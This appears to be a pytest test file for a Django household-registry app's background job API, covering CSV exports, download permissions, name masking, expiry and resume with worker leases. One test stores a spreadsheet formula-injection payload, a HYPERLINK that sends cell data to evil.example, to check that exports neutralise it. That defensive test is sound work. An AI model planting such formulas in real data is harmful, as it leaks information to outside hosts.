"""Background jobs through the API: exports, progress and report, download, expiry, resume."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.roles import Role
from core import jobs
from core.models import Job, JobStatus
from tests import factories as f
from tests.jobs import run_jobs

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


def export(client, **params):
    """POST an export: queued at once (202); the worker runs it; returns the job after."""
    r = client.post("/api/v1/jobs/", {"kind": "export_households", **params})
    assert r.status_code == 202, r.json()
    assert r.json()["status"] == "queued" and r.json()["done"] == 0
    run_jobs()
    return client.get(f"/api/v1/jobs/{r.json()['id']}/").json()


def download(client, job_id) -> bytes:
    r = client.get(f"/api/v1/jobs/{job_id}/download/")
    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(r.streaming_content)


def rows_of(client, job_id):
    return list(csv.DictReader(io.StringIO(download(client, job_id).decode("utf-8-sig"))))


def test_export_of_the_area_with_progress_and_download(ward_api, ward, rural, media):
    mine = f.household(
        ward,
        members=[
            f.member("Chu Văn An"),
            f.member("Chu Thị Bình", relationship="spouse", sex="female"),
        ],
    )
    f.household(rural)
    job = export(ward_api)
    assert job["status"] == "succeeded" and job["done"] == job["total"] == 2
    assert job["progress"] == 1.0 and job["counts"] == {"rows": 2}
    rows = rows_of(ward_api, job["id"])
    assert {r["household_code"] for r in rows} == {mine.code}
    assert {r["full_name"] for r in rows} == {"Chu Văn An", "Chu Thị Bình"}
    # private: the file 0600 in directories 0700, and nothing else left behind
    path = media / job["report"]["file"]
    assert path.stat().st_mode & 0o777 == 0o600
    assert (media.stat().st_mode & 0o777, path.parent.stat().st_mode & 0o777) == (0o700, 0o700)
    assert [p.name for p in path.parent.iterdir()] == [path.name]
    analyst = f.client_for(f.user(Role.ANALYST, communes=[ward]))
    masked = rows_of(analyst, export(analyst)["id"])
    assert {r["full_name"] for r in masked} == {""} and {r["sex"] for r in masked} == {
        "male",
        "female",
    }
    # jobs are private to who started them
    assert analyst.get(f"/api/v1/jobs/{job['id']}/").status_code == 404


def test_export_opens_safely_in_a_spreadsheet(ward_api, ward):
    """A formula typed into a field comes out as text; Vietnamese survives Excel (BOM)."""
    f.household(ward, address='=HYPERLINK("http://evil.example/?"&A2,"Xem")')
    content = download(ward_api, export(ward_api)["id"])
    assert content.startswith(b"\xef\xbb\xbf")
    [row] = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert row["address"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Xem")'
    assert row["full_name"] == "Nguyễn Văn An"


def test_an_expired_export_is_gone(ward_api, ward, settings):
    f.household(ward)
    job = export(ward_api)
    settings.FILE_RETENTION_HOURS = 24
    Job.objects.filter(pk=job["id"]).update(finished_at=timezone.now() - timedelta(hours=25))
    r = ward_api.get(f"/api/v1/jobs/{job['id']}/download/")
    assert r.status_code == 410 and r["Content-Type"] == "application/problem+json"
    assert r.json()["code"] == "file_expired" and r.json()["status"] == 410


def test_failed_job_is_queued_again_and_resumes(ward_api, ward, ward_officer):
    f.household(ward)
    job = Job.objects.create(
        kind="export_households",
        params={},
        created_by=ward_officer,
        status="failed",
        error="worker lost",
        attempts=1,
        finished_at=timezone.now(),
    )
    assert ward_api.get(f"/api/v1/jobs/{job.id}/download/").status_code == 409
    r = ward_api.post(f"/api/v1/jobs/{job.id}/resume/")
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert r.json()["finished_at"] is None
    assert run_jobs() == 1
    job = ward_api.get(f"/api/v1/jobs/{job.id}/").json()
    assert job["status"] == "succeeded" and job["attempts"] == 2 and job["error"] == ""
    r = ward_api.post(f"/api/v1/jobs/{job['id']}/resume/")
    assert r.status_code == 409 and r.json()["code"] == "job_done"


def test_resume_never_starts_a_second_run(ward_api, ward_officer):
    """While a worker's lease holds the job, resume is refused; once it expired (the worker
    died), the job is queued again and the next worker takes it over."""
    job = jobs.enqueue("export_households", {}, ward_officer)
    running = jobs.claim(job.pk)
    assert running is not None and jobs.claim(job.pk) is None  # exclusive
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 409 and r.json()["code"] == "job_running"
    assert r["Content-Type"] == "application/problem+json"
    assert run_jobs() == 0  # nothing to claim: the live run holds it
    Job.objects.filter(pk=job.pk).update(lease_expires_at=timezone.now() - timedelta(seconds=1))
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert run_jobs() == 1
    assert Job.objects.get(pk=job.pk).status == JobStatus.SUCCEEDED
    # the first run, alive after all, can no longer write to the job
    with pytest.raises(jobs.LeaseLost):
        jobs.progress(running, done=1)


def test_resume_after_the_files_expired_is_gone(ward_api, ward_officer, settings):
    job = Job.objects.create(
        kind="registry_sync",
        params={"path": "registry-sync/gone.ndjson", "format": "ndjson"},
        created_by=ward_officer,
        status="failed",
        finished_at=timezone.now() - timedelta(hours=settings.FILE_RETENTION_HOURS + 1),
    )
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 410 and r.json()["code"] == "file_expired"
    assert Job.objects.get(pk=job.pk).status == JobStatus.FAILED
